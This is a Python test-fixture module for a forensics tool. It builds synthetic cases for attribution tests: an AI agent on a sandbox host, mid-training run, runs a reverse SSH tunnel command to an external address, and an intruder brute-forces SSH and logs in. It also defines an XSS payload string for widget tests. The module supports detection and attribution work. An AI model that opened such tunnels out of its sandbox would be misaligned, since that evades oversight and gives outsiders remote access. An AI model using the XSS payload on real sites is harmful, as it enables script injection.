"""Synthetic agent and intruder cases for the attribution and widget tests."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import forensics
from tests.query_fixtures import CONFIG, at, conn, insert, load_zeek

XSS = "<script>alert(1)</script><img src=x onerror=alert(2)>"


def agent_case(tmp: Path, path: str = ":memory:", payload: str = "") -> Any:
    """sb-07's agent opens a reverse tunnel to 198.51.100.23 and the network shows it."""
    case = forensics.open_case(path)
    case.configure(CONFIG)
    rows = [conn(600 + 300 * i, "10.42.7.17", "198.51.100.23", 443, service="ssh", dur=4000,
                 ob=50000, rb=50000) for i in range(4)]
    load_zeek(case, tmp / "zeek", conn=rows)
    cmds = ["ls", "cat README.md", f"ssh -R 2222:localhost:22 -p 443 -f -N tun@198.51.100.23 {payload}",
            "python train.py", "nvidia-smi", "echo done"]
    insert(case, "agent_actions", [
        {"ts": at(590 + 3 * i - 9), "host": "sb-07", "run_id": "rl-1", "trajectory_id": "ep1",
         "actor": "agent", "action_type": "shell", "command": c} for i, c in enumerate(cmds)])
    return case


def intruder_case(tmp: Path, path: str = ":memory:") -> Any:
    """203.0.113.66 brute-forces sb-07 at night, logs in, then the host reaches out."""
    case = forensics.open_case(path)
    case.configure(CONFIG)
    t0 = 12 * 3600
    ssh = [[at(t0 + 10 * i).timestamp(), f"Cb{i}", "203.0.113.66", 5000 + i, "10.42.7.17", 22,
            False, 1, "INBOUND", "libssh"] for i in range(20)]
    ssh.append([at(t0 + 300).timestamp(), "Cok", "203.0.113.66", 6000, "10.42.7.17", 22, True,
                1, "INBOUND", "libssh"])
    rows = [conn(i * 600, "10.42.7.18", "10.42.0.5", 443) for i in range(80)]  # history
    rows += [conn(t0 + 900 + 300 * i, "10.42.7.17", "198.51.100.88", 443, service="ssh",
                  dur=4000, ob=50000, rb=50000) for i in range(3)]
    load_zeek(case, tmp / "zeek", conn=rows, ssh=ssh)
    return case
